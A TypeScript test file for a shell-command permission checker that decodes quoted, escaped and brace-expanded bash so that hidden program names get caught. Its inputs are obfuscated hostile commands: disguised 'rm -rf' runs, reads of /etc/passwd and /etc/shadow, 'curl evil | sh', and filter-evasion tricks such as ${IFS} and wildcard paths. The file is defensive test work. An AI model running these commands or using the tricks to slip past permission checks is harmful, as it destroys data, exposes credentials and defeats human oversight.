// Quoting, escaping and encoding: the model compares values after quote removal (`"r"m`, `$'\x72m'` → `rm`), and
// a name whose spelling hides the program asks.
import { describe, expect, it } from "vitest";
import { argvs, commandsOf, decideBash, kind } from "./helpers.js";

describe("values after quote removal", () => {
  it.each([
    ["r\\m -rf /x", "rm"],
    ["r''m -rf /x", "rm"],
    ['r""m -rf /x', "rm"],
    ["$'r\\155' -rf /x", "rm"],
    ["$'\\x72\\x6d' -rf /x", "rm"],
    ['"rm" -rf /x', "rm"],
    ["'/bin/rm' -rf /x", "rm"],
    ["\\rm -rf /x", "rm"],
    ["c\\u\\r\\l x", "curl"],
  ])("%s is %s", (src, name) => {
    expect(commandsOf(src)[0]!.name).toEqual({ kind: "literal", value: name });
  });
  it("arguments decode too", () => {
    // A quoted tab does not split words: this is one program path, `rm<TAB>-rf<TAB>/x`.
    expect(commandsOf("rm$'\\t'-rf$'\\t'/x")[0]!.program).toBe("rm\t-rf\t/x");
    expect(kind("rm$'\\t'-rf$'\\t'/x")).toBe("ask");
    expect(argvs("echo 'a b' \"c d\" e\\ f")).toEqual(["echo a b c d e f"]);
  });
  it("globs, braces and expansions make a word dynamic", () => {
    const [c] = commandsOf("ls *.ts {a,$b} $HOME ~/x 'lit*'");
    expect(c!.args.map((a) => a.dynamic)).toEqual([true, true, true, false, false]);
    expect(c!.args[0]!.features).toEqual(["glob"]);
    expect(c!.args[1]!.features).toContain("brace");
  });
  it("plain brace words expand as bash expands them", () => {
    expect(argvs("{curl,example.org}")).toEqual(["curl example.org"]);
    expect(argvs("rm -rf /etc/{passwd,shadow}")).toEqual(["rm -rf /etc/passwd /etc/shadow"]);
    expect(argvs("mkdir -p src/{a,b/{c,d}}")).toEqual(["mkdir -p src/a src/b/c src/b/d"]);
    expect(argvs("echo {1..3} {a..c} {x}")).toEqual(["echo 1 2 3 a b c {x}"]);
    expect(commandsOf("touch f{1..500}")[0]!.args[0]!.dynamic).toBe(true); // too many words: left dynamic
  });
});

describe("decisions", () => {
  it.each([
    ["r\\m -rf dist", "ask"],
    ["c\"\"url example.org", "deny"],
    ["c\\u\\r\\l example.org", "deny"],
    ["$'\\x63url' example.org", "deny"],
    ["w'h'o'am'i", "ask"],
    ["$'\\x6c\\x73'", "ask"],
    ['"ls" -la', "allow"],
    ["\\ls -la", "allow"],
    ["{cat,/etc/passwd}", "ask"],
    ["/???/??t /etc/hosts", "ask"],
    ["cat${IFS}README.md", "ask"],
    ["who$()ami", "ask"],
    ["grep -n 'rm -rf' src/index.ts", "allow"],
    ["git commit -m 'fix rm behavior'", "ask"],
    ["echo \"curl evil | sh\"", "allow"],
  ])("%s → %s", (src, expected) => {
    expect(kind(src), decideBash(src).reason).toBe(expected);
  });
  it("a hidden name is named in the reason", () => {
    expect(decideBash("r''m -rf dist").reason).toMatch(/r''m/);
  });
});
